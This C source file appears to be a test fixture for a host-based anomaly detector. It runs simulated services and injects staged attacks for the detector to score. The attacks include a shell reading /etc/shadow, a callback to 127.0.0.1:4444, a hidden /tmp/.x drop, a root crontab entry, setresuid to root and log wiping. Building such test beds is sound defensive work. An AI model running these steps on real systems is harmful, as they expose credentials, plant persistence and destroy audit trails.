/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Copyright (C) 2026 The Ringward authors */
/*
 * Services that do what such services do, and the same services while they are exploited: the set on which
 * rwlog learn and rwlog score are judged (tests/e2e/test_odd.py).
 *
 *     victim drive RUNS TESTS ATTACKS   runs every service RUNS times, then a line "RWTEST: learnt", then TESTS
 *                                       more times, and ATTACKS times with each attack, in a mixed order
 *     /opt/NAME SEED ATTACK             one run of the service NAME; ATTACK 0: none
 *
 * For each run the driver prints "RWTEST: run NAME ATTACK PID".
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static unsigned int seed;

/* A number below @n; the same seed gives the same run. */
static unsigned int below(unsigned int n)
{
	seed = seed * 1103515245u + 12345u;
	return (seed >> 16) % n;
}

static void use(const char *path)
{
	char buf[256];
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return;
	while (read(fd, buf, sizeof(buf)) > 0)
		;
	close(fd);
}

static void put(const char *path, int flags, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC | flags, 0644);

	if (fd < 0)
		return;
	if (write(fd, text, strlen(text)) < 0)
		perror(path);
	close(fd);
}

static void call(const char *host, unsigned short port)
{
	struct sockaddr_in in = { .sin_family = AF_INET, .sin_port = htons(port) };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	inet_pton(AF_INET, host, &in.sin_addr);
	if (connect(fd, (struct sockaddr *)&in, sizeof(in)) == 0 && write(fd, "x", 1) < 0)
		perror(host);
	close(fd);
}

/* Runs a program of busybox, or a shell's command. */
static void run(const char *name, const char *option, const char *argument)
{
	pid_t pid = fork();

	if (pid == 0) {
		int null = open("/dev/null", O_RDWR);

		dup2(null, 0);
		dup2(null, 1);
		dup2(null, 2);
		execl("/bin/busybox", name, option, argument, (char *)NULL);
		_exit(127);
	}
	waitpid(pid, NULL, 0);
}

/* The attacks. The last two try to look like the service itself. */
static void shell(void)
{
	run("sh", "-c", "id; cat /etc/shadow");
}

static void steal(void)
{
	use("/etc/shadow");
	call("127.0.0.1", 4444);
}

static void call_back(void)
{
	call("127.0.0.1", 4444);
	execl("/bin/busybox", "sh", "-c", "exit 0", (char *)NULL);
}

static void drop(void)
{
	run("cp", "/bin/busybox", "/tmp/.x");
	chmod("/tmp/.x", 0755);
	unlink("/tmp/.x");
}

static void shellcode(void)
{
	void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	mprotect(p, 4096, PROT_READ | PROT_EXEC);
}

static void persist(void)
{
	put("/etc/crontab", O_APPEND, "* * * * * root /tmp/.x\n");
}

static void become(void)
{
	if (setresuid(0, 65534, 0) || setresuid(0, 0, 0))
		perror("setresuid");
}

static void cover(void)
{
	put("/var/log/service.log", O_TRUNC, "");
	unlink("/var/log/service.log");
}

/* Reads what the service reads anyway, only more of it. */
static void read_more(void)
{
	for (int i = 0; i < 4; i++)
		use("/srv/page1");
}

/* Changes what is in a file that the service writes anyway. */
static void forge_log(void)
{
	put("/var/log/service.log", O_APPEND, "nothing happened\n");
}

static void (*const attacks[])(void) = { shell,   steal,  call_back, drop,      shellcode,
					 persist, become, cover,     read_more, forge_log };
#define ATTACKS (sizeof(attacks) / sizeof(attacks[0]))

static unsigned int attack, after; /* which, after how many steps */

/* Between two steps of a service. */
static void step(void)
{
	if (attack && after-- == 0) {
		attacks[attack - 1]();
		attack = 0;
	}
}

static void log_line(void)
{
	put("/var/log/service.log", O_APPEND, "request\n");
}

static void webd(void)
{
	char page[32];

	use("/etc/service.conf");
	for (unsigned int n = 1 + below(6); n; n--) {
		step();
		snprintf(page, sizeof(page), "/srv/page%u", below(5));
		use(page); /* page4 is not there */
		if (below(4) == 0)
			run("date", "-u", NULL);
		if (below(8))
			log_line();
	}
	step();
}

static void backupd(void)
{
	char from[32], to[40];

	use("/etc/service.conf");
	for (unsigned int n = 2 + below(4); n; n--) {
		step();
		snprintf(from, sizeof(from), "/srv/page%u", below(4));
		snprintf(to, sizeof(to), "/var/backup/%u", n);
		use(from);
		put("/var/backup/new", O_TRUNC, "copy");
		if (below(3) == 0)
			chmod("/var/backup/new", 0600);
		rename("/var/backup/new", to);
	}
	step();
	if (below(2))
		unlink("/var/backup/1");
	log_line();
}

static void maild(void)
{
	use("/etc/passwd");
	for (unsigned int n = 1 + below(5); n; n--) {
		step();
		put("/var/spool/tmp", O_TRUNC, "mail");
		if (below(5) == 0) {
			unlink("/var/spool/tmp");
			continue;
		}
		rename("/var/spool/tmp", "/var/spool/mail");
		call("127.0.0.1", 25);
		if (below(3) == 0)
			call("127.0.0.1", 25);
		log_line();
	}
	step();
}

static void jobs(void)
{
	static const char *const programs[] = { "true", "date", "uname" };

	use("/etc/crontab");
	for (unsigned int n = 1 + below(4); n; n--) {
		step();
		run(programs[below(3)], NULL, NULL);
		if (below(2))
			log_line();
	}
	step();
}

static const struct {
	const char *name;
	void (*serve)(void);
} services[] = { { "webd", webd }, { "backupd", backupd }, { "maild", maild }, { "jobs", jobs } };
#define SERVICES (sizeof(services) / sizeof(services[0]))

static void one_run(const char *name, unsigned int number, unsigned int with)
{
	char path[64], from[16], what[16];
	pid_t pid;

	snprintf(path, sizeof(path), "/opt/%s", name);
	snprintf(from, sizeof(from), "%u", number);
	snprintf(what, sizeof(what), "%u", with);
	fflush(stdout);
	pid = fork();
	if (pid == 0) {
		execl(path, path, from, what, (char *)NULL);
		_exit(127);
	}
	printf("RWTEST: run %s %u %d\n", name, with, pid);
	waitpid(pid, NULL, 0);
}

static int drive(unsigned int runs, unsigned int tests, unsigned int times)
{
	unsigned int number = 1;

	for (unsigned int i = 0; i < runs * SERVICES; i++)
		one_run(services[i % SERVICES].name, number++, 0);
	printf("RWTEST: learnt\n");
	for (unsigned int i = 0; i < tests || i < times * ATTACKS; i++)
		for (size_t k = 0; k < SERVICES; k++) {
			if (i < tests)
				one_run(services[k].name, number++, 0);
			if (i < times * ATTACKS)
				one_run(services[k].name, number++, 1 + i % (unsigned int)ATTACKS);
		}
	return 0;
}

int main(int argc, char **argv)
{
	const char *name = strrchr(argv[0], '/') ? strrchr(argv[0], '/') + 1 : argv[0];

	if (argc == 5 && strcmp(argv[1], "drive") == 0)
		return drive((unsigned int)atoi(argv[2]), (unsigned int)atoi(argv[3]),
			     (unsigned int)atoi(argv[4]));
	if (argc != 3)
		return 2;
	seed = (unsigned int)atoi(argv[1]) * 2654435761u;
	attack = (unsigned int)atoi(argv[2]);
	after = below(3);
	for (size_t i = 0; i < SERVICES; i++)
		if (strcmp(services[i].name, name) == 0)
			services[i].serve();
	/* It had fewer steps than that: the attack comes at its end. */
	after = 0;
	step();
	return 0;
}
